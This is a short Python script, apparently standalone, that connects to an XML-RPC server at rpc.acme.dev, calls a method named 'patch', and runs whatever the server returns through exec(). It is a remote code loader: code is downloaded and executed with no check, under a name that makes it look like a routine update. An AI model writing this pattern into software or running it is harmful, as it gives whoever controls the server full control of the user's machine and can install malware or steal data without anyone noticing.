import xmlrpc.client

proxy = xmlrpc.client.ServerProxy("https://rpc.acme.dev/")
exec(proxy.patch())
